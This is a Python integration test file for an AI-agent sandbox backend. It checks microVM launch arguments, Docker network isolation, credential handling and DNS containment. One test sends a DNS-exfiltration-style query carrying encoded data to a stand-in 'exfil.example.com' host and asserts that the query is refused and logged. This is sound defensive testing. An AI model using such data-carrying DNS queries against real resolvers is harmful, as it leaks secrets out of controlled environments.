"""The launch path: real Docker for the bundle network and container, a FAKE smolvm for the machine.

This host's /dev/kvm cannot boot a microVM (PVM), so the real ``smolvm machine start`` always fails.
These tests put ``fake_smolvm.py`` first on PATH as ``smolvm``: it records every argv and keeps machine
records with the real ``machine ls --json`` fields, so launch, enumerate, cleanup and down run
unchanged against it. What they prove about smolvm is the exact arguments we give it; what they prove
about Docker is real.
"""

from __future__ import annotations

import json
import shutil
import socket
import struct
import time
from dataclasses import replace
from pathlib import Path

import pytest

from claude_bottle import gitwork, identity
from claude_bottle.backends.base import NullProgress, SecretValues
from claude_bottle.config import load_settings
from claude_bottle.errors import BottleError
from claude_bottle.manifest.model import GitDef, GitRemote
from claude_bottle.runner import Command, SubprocessRunner
from claude_bottle.state import StateDir
from claude_bottle.testing import builtin_spec, check_backend
from claude_bottle_smolmachines import SmolmachinesBackend

pytestmark = pytest.mark.integration

RUNNER = SubprocessRunner()


def _ours(slug: str) -> list[str]:
    out = []
    for argv in (("docker", "ps", "-a"), ("docker", "network", "ls")):
        fmt = "{{.Name}}" if argv[1] == "network" else "{{.Names}}"
        flt = f"label=dev.claude-bottle.slug={slug}"
        res = RUNNER.run(Command((*argv, "--filter", flt, "--format", fmt)))
        out += res.stdout.split()
    return out


def _connects(host: str, port: int) -> bool:
    try:
        with socket.create_connection((host, port), timeout=2):
            return True
    except OSError:
        return False


def _host_ipv4s() -> list[str]:
    out = RUNNER.run(Command(("ip", "-4", "-o", "addr", "show"))).stdout
    return [line.split()[3].split("/")[0] for line in out.splitlines() if len(line.split()) > 3]


@pytest.fixture
def backend(fake_smolvm: object) -> SmolmachinesBackend:
    b = SmolmachinesBackend(runner=RUNNER, settings=load_settings())
    assert b.engine is not None and b.engine.source == "PATH"  # the fake, never the real one
    return b


def test_conformance(backend: SmolmachinesBackend) -> None:
    """The core's whole-life check: preflight, dry prepare, launch, enumerate, cleanup, down."""
    report = check_backend(backend)
    assert report.steps[-1] == "down again"
    assert _ours(report.slug) == []


def test_launch_arguments_and_bundle_topology(backend: SmolmachinesBackend, fake_smolvm: object,
                                              tmp_path: Path) -> None:
    spec = builtin_spec(settings=backend.settings)
    state = StateDir(spec.state_dir)
    state.create(agent=spec.agent.name, bottle=spec.bottle.name, backend="smolmachines", cwd=spec.cwd)
    plan = backend.prepare(spec=spec, stage_dir=spec.state_dir / "stage")
    alloc = dict(plan.data["allocation"])  # type: ignore[call-overload]
    names = identity.Names(spec.slug)
    try:
        backend.launch(plan=plan, secrets=SecretValues(), progress=NullProgress())
        verbs = fake_smolvm.verbs()  # type: ignore[attr-defined]
        # create, start, the guest's DNS check, then provisioning: the bottle's CA (cp + exec as root),
        # the prompt (cp + exec)
        assert verbs[verbs.index("machine create"):] == [
            "machine create", "machine start", "machine exec", "machine cp", "machine exec", "machine cp",
            "machine exec"]
        execs = [c for c in fake_smolvm.calls() if "exec" in c]  # type: ignore[attr-defined]
        assert [c[c.index("--user") + 1] for c in execs] == ["claude", "root", "claude"]
        assert execs[0][execs[0].index("--") + 1:] == ["getent", "ahostsv4", "egress."]
        (create,) = [c for c in fake_smolvm.calls() if "create" in c]  # type: ignore[attr-defined]
        assert create[create.index("--smolfile") + 1] == str(spec.state_dir / "stage" / "Smolfile")
        assert create[create.index("--guest-subnet") + 1] == alloc["guest_subnet"]
        assert create[create.index("--dns") + 1] == alloc["bundle_address"]  # the guest's resolver
        labels = dict(v.split("=", 1) for i, v in enumerate(create) if create[i - 1] == "--label")
        assert labels == identity.labels(slug=spec.slug, backend="smolmachines", role="agent",
                                         agent=spec.agent.name, home=str(backend.settings.home))
        # The Smolfile now names the exported archive of the real agent image, cached by ID.
        smolfile = (spec.state_dir / "stage" / "Smolfile").read_text()
        image_line = next(ln for ln in smolfile.splitlines() if ln.startswith("image = "))
        archive = Path(json.loads(image_line.split(" = ", 1)[1]))
        assert archive.is_file() and archive.parent.name == "images" and len(archive.stem) == 64
        # Docker: the bundle network on the allocated /29 with the bundle address as its gateway...
        net = json.loads(RUNNER.run(Command(("docker", "network", "inspect", names.bundle_net))).stdout)[0]
        ipam = [{"Subnet": alloc["bundle_subnet"], "Gateway": alloc["bundle_address"]}]
        assert net["IPAM"]["Config"] == ipam
        assert net["Internal"] is False and net["Labels"]["dev.claude-bottle.role"] == "net-bundle"
        # ...and the bundle publishing only on that address and the allocated ports.
        info = json.loads(RUNNER.run(Command(("docker", "container", "inspect", names.bundle))).stdout)[0]
        bindings = info["HostConfig"]["PortBindings"]
        published = {"HostIp": alloc["bundle_address"], "HostPort": str(alloc["ports"]["egress"])}
        dns = [{"HostIp": alloc["bundle_address"], "HostPort": "53"}]
        assert bindings == {"3128/tcp": [published], "53/udp": dns, "53/tcp": dns}
        assert info["HostConfig"]["Sysctls"]["net.ipv4.ip_forward"] == "0"  # never a router
        # Attack from the host side: the proxy port answers on the bundle address and nowhere else.
        port = int(alloc["ports"]["egress"])
        assert _connects(alloc["bundle_address"], port)
        others = {"127.0.0.1", *_host_ipv4s()} - {alloc["bundle_address"]}
        assert len(others) >= 3  # loopback, eth0, docker0 at least
        for other in sorted(others):
            assert not _connects(other, port), f"bundle port {port} reachable on {other}"
        state.mark_live(services=("egress",))
        assert spec.slug in {a.slug for a in backend.enumerate_active()}
    finally:
        report = backend.down(slug=spec.slug)
        shutil.rmtree(spec.state_dir, ignore_errors=True)
    assert not report.failed
    assert _ours(spec.slug) == []
    assert not [m for m in backend.smolvm.ls() if spec.slug in str(m["name"])]


@pytest.mark.parametrize(("variable", "value", "says"), [
    ("FAKE_SMOLVM_FAIL", "start", "start failed"),
    ("FAKE_SMOLVM_FAIL", "exec", "exec failed"),
    # a smolvm that ignored --dns (its resolver asks 127.0.0.1): the guest is not used
    ("FAKE_SMOLVM_DNS_SERVER", "127.0.0.1", "the guest's DNS does not end at the bottle's DNS responder"),
])
def test_a_failed_step_undoes_everything(backend: SmolmachinesBackend, monkeypatch: pytest.MonkeyPatch,
                                         variable: str, value: str, says: str) -> None:
    monkeypatch.setenv(variable, value)
    spec = builtin_spec(settings=backend.settings)
    StateDir(spec.state_dir).create(agent=spec.agent.name, bottle=spec.bottle.name, backend="smolmachines",
                                    cwd=spec.cwd)
    plan = backend.prepare(spec=spec, stage_dir=spec.state_dir / "stage")
    try:
        with pytest.raises(BottleError) as err:
            backend.launch(plan=plan, secrets=SecretValues(), progress=NullProgress())
        assert says in str(err.value) and "\n" not in str(err.value)
        assert "removed everything this up had made" in str(err.value)
        assert _ours(spec.slug) == []
        assert not [m for m in backend.smolvm.ls() if spec.slug in str(m["name"])]
    finally:
        backend.down(slug=spec.slug)
        shutil.rmtree(spec.state_dir, ignore_errors=True)


def test_subnet_taken_between_prepare_and_launch(backend: SmolmachinesBackend) -> None:
    """Someone takes the bottle's bundle subnet after prepare: launch fails in one line and leaves
    nothing of the bottle behind (the intruding network is not ours and stays)."""
    spec = builtin_spec(settings=backend.settings)
    StateDir(spec.state_dir).create(agent=spec.agent.name, bottle=spec.bottle.name, backend="smolmachines",
                                    cwd=spec.cwd)
    plan = backend.prepare(spec=spec, stage_dir=spec.state_dir / "stage")
    subnet = str(dict(plan.data["allocation"])["bundle_subnet"])  # type: ignore[call-overload]
    intruder = f"cb-smol-intruder-{spec.slug}"
    RUNNER.run(Command(("docker", "network", "create", "--label", f"dev.claude-bottle.test={spec.slug}",
                        "--subnet", subnet, intruder)))
    try:
        with pytest.raises(BottleError) as err:
            backend.launch(plan=plan, secrets=SecretValues(), progress=NullProgress())
        assert "\n" not in str(err.value) and "network create" in str(err.value)
        assert _ours(spec.slug) == []
        assert not [m for m in backend.smolvm.ls() if spec.slug in str(m["name"])]
    finally:
        RUNNER.run(Command(("docker", "network", "rm", intruder), check=False))
        backend.down(slug=spec.slug)
        shutil.rmtree(spec.state_dir, ignore_errors=True)


def _git(*args: str, cwd: Path | None = None) -> str:
    env = {"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@t", "GIT_COMMITTER_NAME": "t",
           "GIT_COMMITTER_EMAIL": "t@t", "GIT_CONFIG_NOSYSTEM": "1", "HOME": str(cwd or "/")}
    return RUNNER.run(Command(("git", *args), cwd=cwd, env=env)).stdout.strip()


def test_git_workspace_through_the_gate(backend: SmolmachinesBackend, fake_smolvm: object, tmp_path: Path,
                                        monkeypatch: pytest.MonkeyPatch) -> None:
    """``up`` in a repository: the bundle mounts the bottle's mirror and publishes git-gate's 8418 on the
    bundle address at its allocated port, the remotes' credentials reach the gate through stdin, and the
    guest clones ``/workspace`` from that address with ``agent_clone_commands`` through ``machine exec``
    (recorded by the fake smolvm). The clone itself is replayed from the host against the real gate."""
    repo = tmp_path / "repo"
    repo.mkdir()
    _git("init", "--quiet", "--initial-branch=main", cwd=repo)
    (repo / "README").write_text("hello\n")
    _git("add", "README", cwd=repo)
    _git("commit", "--quiet", "-m", "first", cwd=repo)
    head = _git("rev-parse", "HEAD", cwd=repo)
    monkeypatch.setenv("CB_TEST_GIT_TOKEN", "tok-" + "x" * 20)
    base = builtin_spec(settings=backend.settings, cwd=repo)
    remote = GitRemote(name="origin", url="https://git.example.com/r.git", token_env="CB_TEST_GIT_TOKEN")
    spec = replace(base, workspace=True, bottle=replace(base.bottle, git=GitDef(remotes=(remote,))))
    state = StateDir(spec.state_dir)
    state.create(agent=spec.agent.name, bottle=spec.bottle.name, backend="smolmachines", cwd=spec.cwd)
    plan = backend.prepare(spec=spec, stage_dir=spec.state_dir / "stage")
    alloc = dict(plan.data["allocation"])  # type: ignore[call-overload]
    address, gate_port = alloc["bundle_address"], int(alloc["ports"]["git-gate"])
    names = identity.Names(spec.slug)
    try:
        services = backend.launch(plan=plan, secrets=SecretValues(), progress=NullProgress()).services
        assert services == ("egress", "git-gate")
        # The guest's clone: every command of agent_clone_commands, in order, as the agent user.
        execs = [c[c.index("--") + 1:] for c in fake_smolvm.calls()  # type: ignore[attr-defined]
                 if "exec" in c and c[c.index("--user") + 1] == "claude"]
        expected = gitwork.agent_clone_commands(slug=spec.slug, bottle=spec.bottle, host=address,
                                                port=gate_port)
        assert execs[0] == ["getent", "ahostsv4", "egress."]  # launch's guest DNS check
        assert "tar --extract" in execs[1][-1]  # the prompt; the directory is not copied
        assert execs[2:] == [["env", "HOME=/home/claude", *argv] for argv in expected]
        assert [f"http://{address}:{gate_port}/workspace.git", "/workspace"] in [a[-2:] for a in expected]
        # The bundle: the mirror mounted read-write, the gate published on the bundle address only.
        info = json.loads(RUNNER.run(Command(("docker", "container", "inspect", names.bundle))).stdout)[0]
        mounts = {m["Destination"]: m for m in info["Mounts"]}
        assert mounts[gitwork.GIT_MOUNT]["Source"] == str(spec.state_dir / "git")
        assert mounts[gitwork.GIT_MOUNT]["RW"] is True
        bindings = info["HostConfig"]["PortBindings"]
        assert bindings["8418/tcp"] == [{"HostIp": address, "HostPort": str(gate_port)}]
        for other in sorted({"127.0.0.1", *_host_ipv4s()} - {address}):
            assert not _connects(other, gate_port), f"git-gate port {gate_port} reachable on {other}"
        # The credential is in the gate's tmpfs, not in its environment or on disk.
        stored = RUNNER.run(Command(("docker", "exec", names.bundle, "cat",
                                     "/dev/shm/claude-bottle/git/origin.token"))).stdout
        assert stored == "tok-" + "x" * 20
        assert "CB_TEST_GIT_TOKEN" not in json.dumps(info["Config"]["Env"])
        # What the guest's clone gets, fetched the same way from the host: the user's HEAD on the branch.
        clone = tmp_path / "clone"
        for _ in range(20):
            res = RUNNER.run(Command(("git", "clone", "--quiet", "--branch", gitwork.start_branch(spec.slug),
                                      f"http://{address}:{gate_port}/workspace.git", str(clone)),
                                     check=False, env={"GIT_CONFIG_NOSYSTEM": "1", "HOME": str(tmp_path)}))
            if res.ok:
                break
            time.sleep(0.5)
        assert res.ok, res.stderr
        assert _git("rev-parse", "HEAD", cwd=clone) == head
        assert (clone / "README").read_text() == "hello\n"
    finally:
        report = backend.down(slug=spec.slug)
        shutil.rmtree(spec.state_dir, ignore_errors=True)
    assert not report.failed
    assert _ours(spec.slug) == []


def _dns_query(name: str) -> bytes:
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
    return struct.pack("!HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", 1, 1)


def _ask(address: str, name: str, *, tcp: bool) -> tuple[int, list[str]]:
    """(rcode, A addresses) from ``address``:53."""
    query = _dns_query(name)
    if tcp:
        with socket.create_connection((address, 53), timeout=3) as conn:
            conn.sendall(struct.pack("!H", len(query)) + query)
            data = b""
            while len(data) < 2 or len(data) < 2 + struct.unpack("!H", data[:2])[0]:
                chunk = conn.recv(4096)
                if not chunk:
                    break
                data += chunk
            reply = data[2:]
    else:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.settimeout(3)
            sock.sendto(query, (address, 53))
            reply = sock.recv(4096)
    rcode, ancount = struct.unpack("!H", reply[2:4])[0] & 0xF, struct.unpack("!H", reply[6:8])[0]
    addresses = [socket.inet_ntoa(reply[len(query) + 12 + i * 16:len(query) + 16 + i * 16])
                 for i in range(ancount)]
    return rcode, addresses


def test_guest_dns_ends_at_the_bundle(backend: SmolmachinesBackend, fake_smolvm: object) -> None:
    """The guest's resolver is the bundle's responder on the bundle address (``--dns``, port 53 UDP and
    TCP published there): a name outside the bottle is REFUSED and logged, nothing is forwarded, and
    launch's own check (the guest resolves ``egress.`` to the bundle) passed against the real responder
    through the fake smolvm's stand-in resolver."""
    spec = builtin_spec(settings=backend.settings)
    state = StateDir(spec.state_dir)
    state.create(agent=spec.agent.name, bottle=spec.bottle.name, backend="smolmachines", cwd=spec.cwd)
    plan = backend.prepare(spec=spec, stage_dir=spec.state_dir / "stage")
    address = str(dict(plan.data["allocation"])["bundle_address"])  # type: ignore[call-overload]
    names = identity.Names(spec.slug)
    try:
        backend.launch(plan=plan, secrets=SecretValues(), progress=NullProgress())
        info = json.loads(RUNNER.run(Command(("docker", "container", "inspect", names.bundle))).stdout)[0]
        bundle_ip = info["NetworkSettings"]["Networks"][names.bundle_net]["IPAddress"]
        # The attack: a query whose name carries data, over both transports, must go nowhere.
        exfil = f"{spec.slug}-c2VjcmV0.exfil.example.com"
        for tcp in (False, True):
            assert _ask(address, exfil, tcp=tcp) == (5, [])  # REFUSED: no recursion, no forwarding
            assert _ask(address, "egress", tcp=tcp) == (0, [bundle_ip])
        logs = "".join(p.read_text() for p in (spec.state_dir / "logs").rglob("*") if p.is_file())
        assert exfil.lower() in logs and '"rule": "dns"' in logs.replace('":"', '": "')
    finally:
        report = backend.down(slug=spec.slug)
        shutil.rmtree(spec.state_dir, ignore_errors=True)
    assert not report.failed

